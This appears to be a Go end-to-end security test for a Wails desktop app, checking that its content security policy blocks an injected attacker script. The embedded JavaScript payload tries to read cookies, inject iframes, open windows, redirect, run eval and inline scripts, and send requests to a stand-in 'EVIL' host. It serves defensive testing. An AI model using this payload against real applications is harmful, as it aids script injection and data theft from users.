//go:build e2e

package e2e

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// hostileScript is what an attacker would do who got a script of theirs into the
// page: it tries every way out and tells what came of it in a heading.
const hostileScript = `
const evil = 'EVIL', told = []
const tell = (row, text) => told.push(row + ' ' + text)
const wait = (ms) => new Promise((f) => setTimeout(f, ms))
let violations = 0
document.addEventListener('securitypolicyviolation', () => violations++)
async function run() {
  tell('CK-05', 'cookie=[' + document.cookie + ']')
  for (const [k, v] of [['src', evil + '/frame'], ['srcdoc', '<script>parent.postMessage("in", "*")</scr' + 'ipt>'], ['src', 'data:text/html,<script>parent.postMessage("in","*")</scr' + 'ipt>']]) {
    const f = document.createElement('iframe')
    if (k === 'src' && v.startsWith('data:')) f.sandbox = 'allow-scripts'
    try { f[k] = v } catch {} // Trusted Types
    document.body.append(f)
  }
  let framed = 0
  addEventListener('message', () => framed++)
  await wait(500)
  tell('WV-01', 'messages from frames=' + framed)
  try { tell('WV-03', 'open=' + window.open(evil + '/open')) } catch (e) { tell('WV-03', 'open=null') }
  for (const [href, target] of [[evil + '/blank', '_blank'], ['javascript:document.title="run"', ''], [evil + '/link', '']]) {
    const a = document.createElement('a')
    a.href = href
    a.target = target
    document.body.append(a)
    a.click()
    await wait(200)
  }
  tell('WV-03', 'title=' + document.title)
  const form = document.createElement('form')
  form.action = evil + '/form'
  document.body.append(form)
  form.submit()
  const meta = document.createElement('meta')
  meta.httpEquiv = 'refresh'
  meta.content = '0;url=' + evil + '/meta'
  document.head.append(meta)
  location.href = evil + '/location'
  await wait(500)
  let evaluated = 'blocked'
  try { evaluated = (0, eval)('"run"') } catch {}
  tell('WV-08', 'eval=' + evaluated)
  const inline = document.createElement('script')
  try { inline.textContent = 'window.inline = "run"' } catch {}
  document.body.append(inline)
  const outside = document.createElement('script')
  try { outside.src = evil + '/script.js' } catch {}
  document.body.append(outside)
  try { await fetch(evil + '/fetch', { mode: 'no-cors' }) } catch {}
  new Image().src = evil + '/image'
  await wait(500)
  tell('WV-08', 'inline=' + (window.inline ?? 'blocked') + ' told=' + (violations > 0))
  const h = document.createElement('h1')
  h.textContent = told.join('; ')
  document.body.append(h)
}
run()
`

// hostile builds the program once more with a page of an attacker in the place of
// the built one, and with more changed files, and returns its path.
func hostile(t testing.TB, script string, more map[string]string) string {
	t.Helper()
	page := `<!doctype html><html lang="ko"><head><title>quiet</title>
<script defer src="wails://wails/wails/ipc.js"></script><script defer src="wails://wails/wails/runtime.js"></script>
<script type="module" src="/munpae/assets/hostile.js"></script></head><body></body></html>`
	files := map[string]string{"frontend/dist/index.html": page, "frontend/dist/assets/hostile.js": script}
	maps.Copy(files, more)
	return rebuilt(t, files)
}

// rebuilt builds the program with other texts in the place of some of its files.
// Nothing else differs.
func rebuilt(t testing.TB, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	root, err := filepath.Abs("../..")
	if err != nil {
		t.Fatal(err)
	}
	replace := map[string]string{}
	for name, text := range files {
		at := filepath.Join(dir, filepath.Base(name))
		if err := os.WriteFile(at, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		replace[filepath.Join(root, name)] = at
	}
	overlay, err := json.Marshal(map[string]any{"Replace": replace})
	if err != nil {
		t.Fatal(err)
	}
	plan, out := filepath.Join(dir, "overlay.json"), filepath.Join(dir, "munpae")
	if err := os.WriteFile(plan, overlay, 0o600); err != nil {
		t.Fatal(err)
	}
	build := exec.Command("go", "build", "-overlay", plan, "-tags", "desktop,production,webkit2_41", "-o", out, "../..")
	if text, err := build.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, text)
	}
	return out
}

func TestWV01_WV02_WV03_WV08_CK05_AScriptOfAnAttackerInTheRealWindowGetsNowhere(t *testing.T) {
	var mu sync.Mutex
	var reached []string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		reached = append(reached, r.URL.Path)
		fmt.Fprint(w, "<!doctype html><h1>evil</h1>")
	}))
	defer evil.Close()
	p := install(t, english.lang)
	p.binary = hostile(t, strings.ReplaceAll(hostileScript, "EVIL", evil.URL), nil)
	p.start()
	p.hears("told=")
	w, _ := p.window()
	said := w.said()
	for _, want := range []string{
		"CK-05 cookie=[]", "WV-01 messages from frames=0", "WV-03 open=null", "WV-03 title=quiet", "WV-08 eval=blocked", "WV-08 inline=blocked told=true",
	} {
		if !strings.Contains(said, want) {
			t.Errorf("not %q; the page says:\n%s", want, said)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(reached) > 0 {
		t.Errorf("the page reached another address: %v", reached)
	}
}
